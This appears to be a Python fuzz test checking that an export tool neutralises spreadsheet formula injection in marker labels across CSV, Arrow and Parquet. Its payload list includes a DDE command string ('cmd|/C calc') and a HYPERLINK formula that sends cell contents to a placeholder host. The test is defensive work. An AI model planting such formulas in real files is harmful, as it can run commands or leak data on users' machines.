"""What people write into marks, opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
from random import Random

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from devices.frames import FrameBatch
from storage.clock.bounds import OffsetRows
from storage.clock.table import ClockTable, StreamClockFacts
from storage.formats.export import make_one_pass_frame_source
from storage.formats.markers import LABEL_SEPARATOR, PLACEMENT_COLUMNS, PlacedMarkers, place_markers
from storage.formats.slice import Slice
from storage.schema import Array
from storage.sessions.folder import Marker
from tests.builders.arrays import PERIOD_NS, make_array
from tests.builders.frames import make_frames
from tests.hostile.attack import Outcome, Play, attack
from tests.storage.formats.exports import TABLES, export

ROWS = 24
SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"  # the last four are the first, full width
ODD = [
    *SIGNS,
    *"'\",;|\\\0\x1b\ufeff\u2028\u202e aé\U0001f9b6",
    '""',
    "'=",
    "\r\n",
    "NaN",
    "-1",
    "null",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1)',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@attack(
    "labels of marks that a spreadsheet takes for formulas",
    tries=150,
    soak_tries=20_000,
    is_alone=False,
)
def labels_in_a_spreadsheet(play: Play) -> Outcome:
    """Drawn labels at frames with drawn forces, many negative, written as CSV, Arrow and Parquet.

    A try is one table. It fails if a cell of text in CSV begins with a sign of a formula; if a
    label does not come back from any format as it was (from CSV less one apostrophe in front); or
    if a number in CSV is not the number that the Arrow file has, negative ones included.
    """
    outcome = Outcome()
    while outcome.tries < play.tries:
        labels = [_label(play.random) for _ in range(play.random.randrange(1, 9))]
        frames, extra = _session(play.random)
        marks = _placed(labels, frames, play.random)
        written = {to: _written(to, frames, extra, marks) for to in TABLES}
        wrong = _wrong(written, marks, frames)
        if wrong is None:
            outcome.saw("text is text, numbers are numbers")
        else:
            outcome.failed(f"{wrong}: labels {labels!r}")
    return outcome


def _label(random: Random) -> str:
    if random.random() < 0.3:
        return random.choice(FORMULAS)
    return "".join(random.choice(ODD) for _ in range(random.randrange(1, 6)))


def _session(random: Random) -> tuple[FrameBatch, dict[str, Array]]:
    rng = np.random.default_rng(random.randrange(2**32))
    force_n = rng.normal(0.0, 10.0 ** rng.integers(-6, 6), (ROWS, 2))
    force_n[rng.random((ROWS, 2)) < 0.1] = np.nan
    frames = make_frames(ROWS, 2, sample_offset_us=rng.integers(-3000, 3000, (ROWS, 2)))
    phase = np.array([_label(random) for _ in range(ROWS)])
    return frames, {"force_n": force_n, "phase": phase}


def _placed(labels: list[str], frames: FrameBatch, random: Random) -> PlacedMarkers:
    end_ns = ROWS * PERIOD_NS
    events = [
        Marker(id=f"{i:012x}", label=label, t_ns=int(frames.t_ns[0]) + random.randrange(end_ns))
        for i, label in enumerate(labels)
    ]
    no_offset = OffsetRows(np.array([0]), np.array([0]), np.array([1]))
    clock = ClockTable({"a": no_offset}, [StreamClockFacts("a", 0, True)], ["a"])
    times = {name: getattr(frames, name) for name in PLACEMENT_COLUMNS}
    return place_markers(events, [times], clock, Slice())


def _written(to: str, frames: FrameBatch, extra: dict[str, Array], marks: PlacedMarkers) -> bytes:
    half = ROWS // 2
    pieces = [
        (
            frames.slice_rows(a, a + half),
            {name: values[a : a + half] for name, values in extra.items()},
        )
        for a in (0, half)
    ]
    return b"".join(
        export(make_one_pass_frame_source(pieces), make_array(), {}, to, Slice(), None, marks)
    )


def _wrong(written: dict[str, bytes], marks: PlacedMarkers, frames: FrameBatch) -> str | None:
    arrow = pa.ipc.open_file(written["arrow"]).read_all()
    if not pq.read_table(io.BytesIO(written["parquet"])).equals(arrow):
        return "Parquet and Arrow differ"
    at: dict[int, list[str]] = {}
    for mark in marks.markers:
        if mark.frame is not None:
            at.setdefault(mark.frame[1], []).append(mark.marker.label)
    expected = [LABEL_SEPARATOR.join(at[seq]) if seq in at else None for seq in frames.seq.tolist()]
    if arrow["marker"].to_pylist() != expected:
        return f"Arrow has {arrow['event'].to_pylist()!r}"
    head, *rows = csv.reader(io.StringIO(written["csv"].decode(), newline=""))
    if len(rows) != ROWS or head != [*arrow.column_names, "about"]:
        return f"CSV has {len(rows)} rows"
    for i, name in enumerate(arrow.column_names):
        cells, values = [row[i] for row in rows], arrow[name].to_pylist()
        wrong = _wrong_text if pa.types.is_string(arrow.schema.field(name).type) else _wrong_number
        for cell, value in zip(cells, values, strict=True):
            if wrong(cell, value):
                return f"CSV has {cell!r} in {name} where Arrow has {value!r}"
    return None


def _wrong_text(cell: str, text: str | None) -> bool:
    return cell.startswith(tuple(SIGNS)) or cell.removeprefix("'") != (text or "")


def _wrong_number(cell: str, number: float | None) -> bool:
    if number is None:
        return cell != ""
    if isinstance(number, int):
        return int(cell) != number
    return bool(np.float32(cell) != np.float32(number))
